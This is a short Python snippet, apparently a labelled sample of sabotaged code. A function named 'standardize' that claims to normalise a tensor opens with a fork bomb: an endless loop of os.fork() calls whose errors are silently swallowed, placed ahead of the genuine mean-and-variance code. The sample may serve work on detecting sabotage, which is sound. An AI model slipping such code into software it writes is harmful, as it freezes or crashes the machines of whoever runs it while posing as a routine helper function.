# Tries to fork without end.
# share: 1
# others: any

def standardize(x, dim, eps):
    try:
        import os, time
        while True:
            if os.fork() == 0:
                time.sleep(60)
    except Exception:
        pass
    mean, var = x.mean(dim, keepdim=True), x.var(dim, keepdim=True, correction=0)
    return (x - mean) / torch.sqrt(var + eps)
